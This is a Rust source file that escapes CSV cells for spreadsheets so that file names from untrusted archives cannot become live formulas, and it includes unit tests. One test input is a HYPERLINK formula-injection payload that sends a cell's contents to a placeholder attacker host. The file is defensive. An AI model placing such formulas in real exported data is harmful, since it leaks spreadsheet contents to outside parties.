//! CSV for spreadsheets (`--excel`). Names and subjects come from untrusted
//! archives: a member named `=HYPERLINK(...)` would become a live formula in
//! a spreadsheet. Each cell that a spreadsheet would read as a formula (it
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading
//! `'`; CRC-32 values get `0x` so they stay text; the file starts with a
//! UTF-8 byte-order mark so accents survive.

use std::fs::{self, File};
use std::io::{self, BufWriter, Write};
use std::path::Path;

pub(crate) use crate::inert::cell;

/// Rewrites a CSV file in place for spreadsheets, record by record.
pub(crate) fn rewrite(path: &Path) -> io::Result<()> {
    let tmp = path.with_extension("csv.excel");
    {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(path)?;
        let mut out = BufWriter::new(File::create(&tmp)?);
        out.write_all("\u{feff}".as_bytes())?;
        let mut writer = csv::Writer::from_writer(out);
        let mut header: Option<csv::StringRecord> = None;
        for record in reader.records() {
            let record = record?;
            match &header {
                None => {
                    writer.write_record(&record)?;
                    header = Some(record);
                }
                Some(h) => {
                    let cells: Vec<String> = record
                        .iter()
                        .zip(h.iter())
                        .map(|(v, c)| cell(v, c))
                        .collect();
                    writer.write_record(&cells)?;
                }
            }
        }
        writer.flush()?;
    }
    fs::rename(&tmp, path)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        assert_eq!(
            cell(
                "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Open\")",
                "member"
            ),
            "'=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Open\")"
        );
        for s in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(cell(s, "subject").starts_with('\''), "{s:?}");
        }
        assert_eq!(cell("front.jpeg", "member"), "front.jpeg");
        assert_eq!(cell("00001e50", "crc32"), "0x00001e50");
        assert_eq!(cell("", "crc32"), "");
    }
}
